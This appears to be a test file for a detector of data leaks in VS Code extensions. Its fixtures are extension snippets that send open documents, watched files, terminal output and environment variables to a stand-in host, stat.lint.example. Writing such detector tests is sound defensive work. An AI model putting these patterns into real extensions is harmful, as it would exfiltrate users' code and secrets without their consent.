import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';

const SHIP = 'async function ship(data) { await fetch("https://stat.lint.example/v1", { method: "POST", body: JSON.stringify({ data }) }); }';
const found = (body: string): string[] => findingsOf(rule, { 'index.js': `const vscode = require("vscode"); ${SHIP} exports.activate = (ctx) => { ${body} };` }, { dialect: 'vscode', entry_points: ['index.js'] }).map(({ severity }) => severity);

test('what stands in an editor goes to a server of the extension’s, without being asked', () => {
  for (const body of [
    'const editor = vscode.window.activeTextEditor; if (editor) ship(editor.document.getText());',
    'setTimeout(() => { for (const doc of vscode.workspace.textDocuments) ship(doc.getText()); }, 5000);',
    'vscode.window.onDidChangeWindowState(() => vscode.workspace.textDocuments.forEach((doc) => ship(doc.getText())));',
    'vscode.workspace.findFiles("**/*.ts").then(async (all) => { for (const each of all) ship((await vscode.workspace.openTextDocument(each)).getText()); });',
    'vscode.workspace.onDidCloseTextDocument((doc) => ship(doc.getText()));',
    'vscode.workspace.createFileSystemWatcher("**/*").onDidChange(async (uri) => ship(String(await vscode.workspace.fs.readFile(uri))));',
    'const bus = new (require("events"))(); bus.on("text", (data) => ship(data)); const editor = vscode.window.activeTextEditor; if (editor) bus.emit("text", editor.document.getText());',
    'vscode.workspace.onDidSaveTextDocument((doc) => vscode.env.openExternal(vscode.Uri.parse("https://stat.lint.example/?d=" + encodeURIComponent(doc.getText()))));',
  ]) assert.deepEqual(found(body), ['high'], body);
});

test('what paints or formats a document sends it', () => {
  for (const body of [
    'vscode.languages.registerDocumentFormattingEditProvider("*", { provideDocumentFormattingEdits(doc) { ship(doc.getText()); return []; } });',
    'class Provider { provideFoldingRanges(doc) { ship(doc.getText()); return []; } } vscode.languages.registerFoldingRangeProvider("*", new Provider());',
    'vscode.languages.registerOnTypeFormattingEditProvider("*", { provideOnTypeFormattingEdits(doc, at) { ship(doc.lineAt(at.line).text); } }, ";");',
    'vscode.window.onDidStartTerminalShellExecution(async (e) => { for await (const part of e.execution.read()) ship(part); });',
    'vscode.window.onDidEndTerminalShellExecution((e) => ship(e.execution.commandLine.value));',
    'vscode.window.registerTerminalLinkProvider({ provideTerminalLinks(context) { ship(context.line); return []; } });',
  ]) assert.deepEqual(found(body), ['high'], body);
});

test('what a command was asked for, what completes, measures, and a server of the settings', () => {
  for (const body of [
    'const editor = () => vscode.window.activeTextEditor; show(editor()?.document.lineCount); vscode.commands.registerCommand("x.ask", () => ship(editor().document.getText()));',
    'vscode.languages.registerInlineCompletionItemProvider("*", { async provideInlineCompletionItems(doc) { await ship(doc.getText()); return []; } });',
    'vscode.workspace.onDidSaveTextDocument((doc) => ship({ language: doc.languageId, lines: doc.lineCount }));',
    'vscode.languages.registerDocumentFormattingEditProvider("*", { async provideDocumentFormattingEdits(doc) { const answer = await fetch(settings.server, { method: "POST", body: doc.getText() }); return [await answer.text()]; } });',
    'vscode.window.onDidEndTerminalShellExecution((e) => ship({ code: e.exitCode }));',
    'vscode.window.registerTerminalLinkProvider({ provideTerminalLinks(context) { return find(context.line); }, handleTerminalLink(link) { vscode.env.openExternal(vscode.Uri.parse("https://tickets.example/" + link.data)); } });',
  ]) assert.deepEqual(found(body), [], body);
});

test('variables of the environment that a function of another script asks for by their names', () => {
  const parse = 'exports.parse = (block, env) => ({ url: block.replace(/\\$(\\w+)/g, (_, name) => { if (!(name in env)) throw new Error(name); return env[name]; }) });';
  const send = 'const { parse } = require("./parse"); exports.activate = (ctx) => ask(async (block) => { const request = parse(block, process.env); await fetch(request.url, request); });';
  const severities = (script: string) => findingsOf(rule, { 'index.js': send, 'parse.js': script }, { dialect: 'vscode', entry_points: ['index.js'] }).map(({ severity }) => severity);
  assert.deepEqual(severities(parse), []);
  assert.deepEqual(severities('exports.parse = (block, env) => ({ url: block + JSON.stringify(env) });'), ['critical']);
});
